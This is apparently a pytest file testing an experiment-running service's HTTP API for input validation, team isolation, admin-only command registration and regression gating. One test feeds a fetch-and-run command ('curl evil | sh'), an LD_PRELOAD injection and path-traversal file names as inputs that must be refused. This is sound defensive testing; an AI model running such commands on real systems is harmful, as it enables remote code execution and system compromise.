"""The HTTP API against the real server on loopback (``web_lab``): submissions refused with
every problem at once, teams kept apart, and submit -> run -> gate on the sample service."""

from __future__ import annotations

from typing import Any

from weblab import SERVICE, START, WebLab, experiment_toml, service_toml, submission


def submit(web_lab: WebLab, body: dict[str, Any], token: str = "demo-submit") -> tuple[int, Any]:
    status, answer, _ = web_lab.request("POST", "/api/v1/experiments", token=token, body=body)
    return status, answer


def test_a_malformed_file_gets_every_problem_in_one_422(web_lab: WebLab) -> None:
    bad = (
        'service = "service.toml"\ntrace = "trace.jsonl"\n\n[arms.A]\nfoo = 1\n\n[arms.B]\n\n'
        '[load]\nrate_per_s = -5\nduration_s = "two"\n\n[design]\ntrials = 0\n'
    )
    status, answer = submit(web_lab, submission(bad))
    assert status == 422
    found = {(p["file"], p["line"], p["field"]) for p in answer["problems"]}
    assert found == {
        ("experiment.toml", 5, "arms.A.foo"),
        ("experiment.toml", 10, "load.rate_per_s"),
        ("experiment.toml", 11, "load.duration_s"),
        ("experiment.toml", 14, "design.trials"),
    }
    assert answer["error"] == "the submission has 4 problems"
    assert all(p["fix"] is not None for p in answer["problems"])
    assert "/submissions/" not in str(answer)  # the server's paths stay on the server
    # A refused submission leaves no folder behind.
    kept = (web_lab.home / "submissions").glob("*/experiment.toml")
    assert not any("foo = 1" in p.read_text() for p in kept)


def test_an_unregistered_start_command_is_refused(web_lab: WebLab) -> None:
    service = service_toml("sh -c 'curl evil | sh'", extra='env = { LD_PRELOAD = "/tmp/x.so" }')
    status, answer = submit(web_lab, submission(experiment_toml(), service=service))
    assert status == 422
    problems = {p["field"]: p for p in answer["problems"]}
    assert set(problems) == {"service.start", "service.env.LD_PRELOAD"}
    assert problems["service.start"]["line"] == 3
    assert "not a registered start command of 'sample-web'" in problems["service.start"]["message"]
    assert "hairline service register sample-web" in problems["service.start"]["fix"]


def test_nothing_outside_the_submission_and_no_env_that_changes_what_runs(web_lab: WebLab) -> None:
    arms = 'path = "/usr/bin"\nenv = { PYTHONPATH = "/x", GZIP_LEVEL = "9" }'
    status, answer = submit(web_lab, submission(experiment_toml(b_args=arms)))
    assert status == 422
    # GZIP_LEVEL is not refused outright, but no admin allowed it (tests/web/test_submit.py).
    assert {p["field"] for p in answer["problems"]} == {
        "arms.B.path", "arms.B.env.PYTHONPATH", "arms.B.env.GZIP_LEVEL"
    }  # fmt: skip
    status, answer = submit(web_lab, submission(experiment_toml(), **{"../escape.txt": "x"}))
    assert status == 422 and "'../escape.txt'" in answer["problems"][0]["message"]
    escaping = experiment_toml().replace('service = "service.toml"', 'service = "/etc/x.toml"')
    status, answer = submit(web_lab, submission(escaping))
    assert status == 422 and answer["problems"][0]["field"] == "service"


def test_a_team_submits_for_itself_only(web_lab: WebLab) -> None:
    status, answer = submit(web_lab, submission(experiment_toml(team="demo")), "other-submit")
    assert status == 403 and 'team = "other"' in answer["hint"]


def test_commands_are_registered_by_an_admin(web_lab: WebLab) -> None:
    status, listed, _ = web_lab.request("GET", f"/api/v1/services/{SERVICE}/commands",
                                        token="admin")  # fmt: skip
    assert status == 200
    assert [(c["kind"], c["command"], c["registered_by"]) for c in listed] == [
        ("start", START, "admin")
    ]
    again = web_lab.request("POST", f"/api/v1/services/{SERVICE}/commands", token="admin",
                            body={"kind": "start", "command": START})  # fmt: skip
    assert again[0] == 200 and again[1] == {"registered": False}


def test_another_team_cannot_see_cancel_or_gate(web_lab: WebLab) -> None:
    # A long queue position is not needed: the experiment is cancelled right after.
    status, answer = submit(web_lab, submission(experiment_toml(trials=1)))
    assert status == 201, answer
    experiment_id = answer["id"]
    status, gate, headers = web_lab.request(
        "GET", f"/api/v1/experiments/{experiment_id}/gate", token="demo-read"
    )
    assert gate["answer"] == "pending" and headers["retry-after"] == "5"
    for method, path in [("GET", ""), ("GET", "/gate"), ("GET", "/report.md"),
                         ("POST", "/cancel")]:  # fmt: skip
        status, body, _ = web_lab.request(method, f"/api/v1/experiments/{experiment_id}{path}",
                                          token="other-submit")  # fmt: skip
        assert status == 403, (path, body)
    listed = web_lab.request("GET", "/api/v1/experiments", token="other-submit")[1]
    assert experiment_id not in [e["id"] for e in listed["items"]]
    assert web_lab.request("GET", "/api/v1/experiments/999999", token="demo-read")[0] == 404

    status, body, _ = web_lab.request("POST", f"/api/v1/experiments/{experiment_id}/cancel",
                                      token="demo-submit")  # fmt: skip
    assert status == 200 and body["result"] in ("cancelled", "requested")


def test_the_regression_fails_its_gate_and_the_aa_passes(
    web_lab: WebLab, web_runs: dict[str, int]
) -> None:
    """False failure: at most about 1e-3 through the session's web_runs
    (tests/web/conftest.py): the A/A at alpha 0.0001 on its seven deciding metrics fails its
    gate in at most 7e-4 of runs where the model is calibrated (a union bound), and the 30%
    regression (in a duet it reads +19% to +20%, one batch a trial) over 4 trials at
    1,500/s is about eight times its interval's half-width (about 2%: per-trial spreads of
    1.4-1.6 points, three runs on 2026-11-29) past the 2% threshold."""
    status, gate, headers = web_lab.request(
        "GET", f"/api/v1/experiments/{web_runs['regression']}/gate", token="demo-read"
    )
    assert status == 200 and "retry-after" not in {k.lower() for k in headers}
    assert gate["answer"] == "fail", gate
    cpu = [r for r in gate["regressions"] if r["metric"] == "cpu_ns_per_request"]
    assert cpu and cpu[0]["candidate"] == "B" and cpu[0]["relative_effect"] > 0.05

    aa = web_lab.request("GET", f"/api/v1/experiments/{web_runs['aa']}/gate", token="demo-read")
    assert aa[1]["answer"] == "pass" and aa[1]["inconclusive_passes"], aa[1]
    assert aa[1]["deciding"] >= 2 and "inconclusive" in aa[1]["reason"], aa[1]
    # The default: an inconclusive deciding verdict fails the gate. Only an admin says
    # otherwise (web_runs did, for this service).
    policy = f"/api/v1/services/{SERVICE}/gate"
    denied = web_lab.request("PUT", policy, token="demo-submit", body={"inconclusive": "pass"})
    assert denied[0] == 403, denied
    assert web_lab.request("PUT", policy, token="admin", body={"inconclusive": "fail"})[0] == 200
    try:
        strict = web_lab.request(
            "GET", f"/api/v1/experiments/{web_runs['aa']}/gate", token="demo-read"
        )[1]
        assert strict["answer"] == "fail" and "which do not pass" in strict["reason"], strict
        assert [i["metric"] for i in strict["inconclusive"]] == [
            i["metric"] for i in aa[1]["inconclusive"]
        ]
    finally:
        web_lab.request("PUT", policy, token="admin", body={"inconclusive": "pass"})

    status, shown, _ = web_lab.request(
        "GET", f"/api/v1/experiments/{web_runs['regression']}", token="demo-read"
    )
    assert shown["phase"] == "done" and shown["trials_done"] == shown["trials"] == 4
    assert shown["submitted_by"] == "demo-submit" and shown["origin"] == "api"
    verdict = next(v for v in shown["verdicts"] if v["metric"] == "cpu_ns_per_request")
    assert verdict["label"] == "regression" and verdict["ci_low"] > 0

    status, markdown, _ = web_lab.request(
        "GET", f"/api/v1/experiments/{web_runs['regression']}/report.md", token="demo-read"
    )
    assert status == 200 and "cpu_ns_per_request" in markdown

    failing = web_lab.request("GET", "/api/v1/experiments?verdict=fail", token="demo-read")[1]
    assert web_runs["regression"] in [e["id"] for e in failing["items"]]
    metrics = web_lab.request("GET", f"/api/v1/services/{SERVICE}/metrics", token="demo-read")
    cpu_counts = next(m for m in metrics[1] if m["metric"] == "cpu_ns_per_request")
    assert cpu_counts["regression"] >= 1
